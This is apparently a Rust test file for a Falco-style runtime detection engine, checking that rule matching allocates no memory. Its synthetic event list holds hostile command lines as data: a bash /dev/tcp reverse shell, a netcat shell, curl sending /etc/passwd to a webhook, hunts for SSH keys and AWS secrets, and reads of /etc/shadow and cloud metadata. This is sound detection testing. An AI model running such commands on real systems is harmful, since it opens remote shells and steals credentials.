//! Matching an event allocates nothing: a counting global allocator around
//! `Engine::matching_rules` with Falco's stable rules and the shipped ones
//! loaded, over events that read the composed fields (`proc.args`,
//! `proc.cmdline`, `proc.pcmdline`), the merged lists and the memo.

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;
use std::path::PathBuf;
use std::sync::Arc;

use mamori_rules::event::{Ancestor, Container, Event, EvtType, Fd, FdType, OpenArgs, Process};
use mamori_rules::{yaml::SourceFile, Engine, LoadOptions, RuleMatching};

struct Counting;

thread_local! {
    /// Allocations made by this thread (tests run on several threads).
    static ALLOCS: Cell<u64> = const { Cell::new(0) };
}

// SAFETY: every call is forwarded unchanged to the system allocator; the
// counter is a const-initialised thread-local `Cell`, which never allocates.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        let _ = ALLOCS.try_with(|c| c.set(c.get() + 1));
        // SAFETY: the caller's contract for `alloc` is passed on as is.
        unsafe { System.alloc(layout) }
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        // SAFETY: `ptr` came from `System.alloc` with this layout.
        unsafe { System.dealloc(ptr, layout) }
    }
    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new: usize) -> *mut u8 {
        let _ = ALLOCS.try_with(|c| c.set(c.get() + 1));
        // SAFETY: the caller's contract for `realloc` is passed on as is.
        unsafe { System.realloc(ptr, layout, new) }
    }
}

#[global_allocator]
static GLOBAL: Counting = Counting;

fn allocs() -> u64 {
    ALLOCS.with(Cell::get)
}

fn rules() -> Vec<Arc<SourceFile>> {
    let repo = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..");
    let mut paths = vec![repo.join("../shared/falco-rules/falco_rules.yaml")];
    assert!(
        paths[0].is_file(),
        "Falco rules missing at {}",
        paths[0].display()
    );
    let mut shipped: Vec<PathBuf> = std::fs::read_dir(repo.join("rules"))
        .unwrap()
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
        .collect();
    shipped.sort();
    paths.extend(shipped);
    paths
        .iter()
        .map(|p| SourceFile::new(p.display().to_string(), std::fs::read_to_string(p).unwrap()))
        .collect()
}

fn process(name: &str, args: &[&str], parent: &str) -> Process {
    let mut argv = vec![name.to_string()];
    argv.extend(args.iter().map(|a| a.to_string()));
    Process {
        pid: 77,
        name: name.into(),
        exepath: format!("/usr/bin/{name}"),
        argv,
        cwd: Some("/tmp".into()),
        user: Some("www-data".into()),
        ancestors: vec![Ancestor {
            pid: 7,
            name: parent.into(),
            exepath: format!("/usr/bin/{parent}"),
            argv: vec![parent.into(), "-c".into(), "x".into()],
        }]
        .into(),
        ..Default::default()
    }
}

fn events() -> Vec<Event> {
    let container = Some(Arc::new(Container {
        id: "0123456789ab".into(),
        image: Some("docker.io/library/nginx:1".into()),
        ..Default::default()
    }));
    let mut out = Vec::new();
    for (name, args, parent) in [
        (
            "bash",
            &["-c", "cat /dev/tcp/10.0.0.1/4444 <&0"][..],
            "nginx",
        ),
        ("nc", &["-e", "/bin/sh", "10.0.0.1", "4444"], "bash"),
        (
            "curl",
            &["-fsSL", "https://hooks.slack.com/x", "-d", "@/etc/passwd"],
            "sh",
        ),
        ("python3", &["-c", "import socket,subprocess"], "node"),
        ("find", &["/", "-name", "id_rsa"], "bash"),
        ("grep", &["-r", "aws_secret_access_key", "/home"], "bash"),
        ("ls", &[], "sshd"),
    ] {
        let p = process(name, args, parent);
        let mut exec = Event::new(1, EvtType::Execve, 0, p.clone());
        exec.container = container.clone();
        out.push(exec.clone());
        exec.container = None;
        out.push(exec);
        for path in [
            "/etc/shadow",
            "/root/.aws/credentials",
            "/proc/1/environ",
            "/tmp/x",
        ] {
            let mut open = Event::new(2, EvtType::Openat, 3, p.clone());
            open.fd = Some(Fd {
                fd_type: FdType::File,
                num: 3,
                name: path.into(),
                sip: None,
                sport: None,
                rip: None,
                rport: None,
                server: false,
                l4proto: None,
            });
            open.open = Some(OpenArgs {
                flags: 0o2,
                path: path.into(),
                ..Default::default()
            });
            open.container = container.clone();
            out.push(open);
        }
        let mut conn = Event::new(3, EvtType::Connect, 0, p);
        conn.fd = Some(Fd {
            fd_type: FdType::Ipv4,
            num: 4,
            name: "10.0.0.2:40000->169.254.169.254:80".into(),
            sip: Some("10.0.0.2".parse().unwrap()),
            sport: Some(40000),
            rip: Some("169.254.169.254".parse().unwrap()),
            rport: Some(80),
            server: false,
            l4proto: Some("tcp".into()),
        });
        conn.container = container.clone();
        out.push(conn);
    }
    out
}

#[test]
fn matching_an_event_allocates_nothing() {
    for matching in [RuleMatching::All, RuleMatching::First] {
        let opts = LoadOptions {
            rule_matching: matching,
            ..Default::default()
        };
        let (engine, report) = Engine::compile(&rules(), &opts);
        assert!(!report.has_errors(), "{report}");
        let events = events();
        let mut idx = Vec::with_capacity(engine.active_rules());
        let mut matched = 0;
        // Warm up: the reused buffers reach their sizes.
        for ev in &events {
            engine.matching_rules(ev, &mut idx);
            matched += idx.len();
        }
        assert!(matched >= 10, "the events should match rules ({matched})");
        let before = allocs();
        for _ in 0..3 {
            for ev in &events {
                engine.matching_rules(ev, &mut idx);
            }
        }
        assert_eq!(allocs() - before, 0, "allocations while matching");
        // The counter counts: a fresh context sized from nothing allocates.
        let before = allocs();
        drop(std::hint::black_box(vec![0u8; 16]));
        assert_eq!(allocs() - before, 1);
    }
}
